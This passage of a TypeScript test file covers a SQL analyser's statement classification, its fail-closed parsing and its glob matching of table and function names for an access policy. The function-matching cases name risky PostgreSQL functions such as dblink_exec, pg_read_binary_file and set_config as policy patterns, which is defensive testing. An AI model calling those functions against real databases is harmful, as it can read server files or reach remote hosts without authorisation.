    for (const sql of ['vacuum', 'vacuum full t', 'analyze t', 'vacuum (analyze) t']) expect(one(sql).kinds).toEqual(['vacuum']);
    for (const sql of ['cluster t using i', 'reindex table t', 'refresh materialized view m']) expect(one(sql).kinds).toEqual(['alter']);
  });
});

describe('unparseable input', () => {
  it.each([
    'junk',
    'selec 1',
    'select 1 from',
    'drop table',
    'select (1',
    "select 'unterminated",
    'select $$unterminated',
    '/* unterminated comment',
    'select 1; junk',
    'delete from t where current of',
    'select * from t where id = $',
  ])('%j -> not ok', (sql) => {
    const a = analyzeSql(sql);
    expect(a.ok).toBe(false);
    if (!a.ok) expect(a.error.length).toBeGreaterThan(0);
  });

  it('names the position of a syntax error', () => {
    const a = analyzeSql('select 1; junk');
    expect(a).toEqual({ ok: false, error: 'syntax error (at character 11)' });
  });

  it('fails closed on absurd nesting instead of throwing, and keeps working afterwards', () => {
    const subselects = analyzeSql(`select ${'(select '.repeat(1000)}1${')'.repeat(1000)}`);
    expect(subselects).toEqual({ ok: false, error: 'statement nested too deeply to analyse' });
    const calls = analyzeSql(`select ${'abs('.repeat(5000)}1${')'.repeat(5000)}`);
    expect(calls.ok).toBe(false);
    expect(one('select * from after_failure').tables).toEqual(['after_failure']);
  });
});

describe('caching and immutability', () => {
  it('returns the same frozen analysis for the same text', () => {
    const a = analyzeSql('select * from cards where id = 1');
    const b = analyzeSql('select * from cards where id = 1');
    expect(a).toBe(b);
    expect(Object.isFrozen(a)).toBe(true);
    if (a.ok) {
      expect(Object.isFrozen(a.statements[0]!.tables)).toBe(true);
    }
  });
});

describe('glob matching', () => {
  it.each([
    [['public.cards'], ['public.cards'], true],
    [['public.cards'], ['cards'], true],
    [['public.cards'], ['billing.cards'], false],
    [['public.cards'], ['public.cards_archive'], false],
    [['public.card*'], ['public.cards_archive'], true],
    [['billing.*'], ['billing.invoices'], true],
    [['billing.*'], ['public.invoices'], false],
    [['billing.*'], ['invoices'], false],
    [['billing.cards'], ['cards'], true],
    [['billing.card*'], ['cards'], true],
    [['*.cards'], ['cards'], true],
    [['*.cards'], ['x.cards'], true],
    [['cards'], ['x.cards'], true],
    [['cards'], ['cards'], true],
    [['*'], ['anything'], true],
    [['*.*'], ['s.t'], true],
    [['public.*'], ['cards'], true],
    [['public.*'], ['billing.*'], false],
    [['billing.cards'], ['billing.*'], true],
    [['b*.x'], ['billing.x'], true],
    [['b*.x'], ['abilling.x'], false],
    [['pub?ic.cards'], ['public.cards'], false],
    [['public.ca.ds'], ['public.cards'], false],
    [['PUBLIC.Cards'], ['public.cards'], true],
  ] as const)('tables %j vs %j -> %s', (globs, tables, expected) => {
    expect(tablesMatch(globs, tables)).toBe(expected);
  });

  it.each([
    [['set_config'], ['set_config'], true],
    [['set_config'], ['pg_catalog.set_config'], true],
    [['pg_catalog.set_config'], ['set_config'], true],
    [['pg_catalog.set_config'], ['evil.set_config'], false],
    [['dblink*'], ['dblink_exec'], true],
    [['dblink*'], ['public.dblink'], true],
    [['dblink*'], ['my_dblink'], false],
    [['pg_read_*'], ['pg_read_binary_file'], true],
    [['pg_catalog.*'], ['count'], true],
    [['public.*'], ['s.f'], false],
  ] as const)('functions %j vs %j -> %s', (globs, functions, expected) => {
    expect(functionsMatch(globs, functions)).toBe(expected);
  });
});

describe('LruCache', () => {
  it('evicts the least recently used entry', () => {
    const c = new LruCache<string, number>(2);
    c.set('a', 1);
    c.set('b', 2);
    expect(c.get('a')).toBe(1);
    c.set('c', 3);
    expect(c.get('b')).toBeUndefined();
    expect(c.get('a')).toBe(1);
    expect(c.get('c')).toBe(3);
    expect(c.size).toBe(2);
    expect(() => new LruCache(0)).toThrow(RangeError);
  });
});
